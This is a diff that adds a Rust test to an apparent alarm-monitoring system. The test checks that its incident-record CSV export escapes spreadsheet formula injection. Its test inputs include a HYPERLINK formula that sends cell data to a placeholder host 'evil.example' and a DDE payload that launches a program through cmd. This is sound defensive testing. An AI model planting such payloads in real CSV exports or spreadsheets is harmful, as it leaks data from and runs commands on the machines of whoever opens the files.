@@ -452,3 +452,83 @@ async fn the_cli_shows_times_in_the_sites_time_zone() {
     assert!(text.contains("2025-12-31 21:00"), "{text}");
     h.stop().await;
 }
+
+/// The emergency record's CSV cannot run anything in a spreadsheet (issue #17 finding 4): a
+/// name, cause or measure typed as a formula (`=HYPERLINK(…)`, DDE `=cmd|…`, `@SUM(…)`, `+…`,
+/// `-…`) comes out as text with a leading `'`, read back by Python's csv module (an
+/// independent reader), its words intact.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_record_csv_runs_no_formula_in_a_spreadsheet() {
+    use propwatch::alarms::Command as Cmd;
+    let site = format!(
+        "[[channels]]\nid = \"duty-log\"\ntype = \"log\"\n{}",
+        common::notify::DUTY_ROSTER
+    );
+    let h = common::notify::Harness::start(&site, 1, None).await;
+    h.set_flag(0, "trapped", true);
+    let inc = h.wait_incident("entrapment").await;
+    let evil_name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")";
+    h.handle
+        .command(Cmd::AckIncident {
+            id: inc,
+            by: evil_name.into(),
+            note: None,
+        })
+        .await
+        .unwrap();
+    h.set_flag(0, "trapped", false);
+    wait_for(
+        "the entrapment back to normal",
+        Duration::from_secs(20),
+        || async { h.incident(inc).normal_at.map(|_| ()) },
+    )
+    .await;
+    h.handle
+        .command(Cmd::Resolve {
+            id: inc,
+            by: "+王工".into(),
+            cause: "=cmd|' /C calc'!A0".into(),
+            measures: "@SUM(1+1)\t-2".into(),
+        })
+        .await
+        .unwrap();
+    let csv = reqwest::get(h.url("/api/v1/record.csv?from=0"))
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let dir = tempfile::tempdir().unwrap();
+    let file = dir.path().join("record.csv");
+    std::fs::write(&file, &csv).unwrap();
+    let out = Command::new("python3")
+        .arg("-c")
+        .arg(
+            "import csv, json, sys\n\
+             rows = list(csv.DictReader(open(sys.argv[1], newline='', encoding='utf-8')))\n\
+             print(json.dumps(rows, ensure_ascii=False))",
+        )
+        .arg(&file)
+        .output()
+        .unwrap();
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let rows: Vec<std::collections::BTreeMap<String, String>> =
+        serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(rows.len(), 1, "{csv}");
+    for (k, v) in &rows[0] {
+        assert!(
+            !v.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "{k} would run in a spreadsheet: {v:?}"
+        );
+    }
+    let r = &rows[0];
+    assert_eq!(r["acknowledged_by"], format!("'{evil_name}"));
+    assert_eq!(r["resolved_by"], "'+王工");
+    assert_eq!(r["cause"], "'=cmd|' /C calc'!A0");
+    assert_eq!(r["measures"], "'@SUM(1+1)\t-2");
+    h.stop().await;
+}
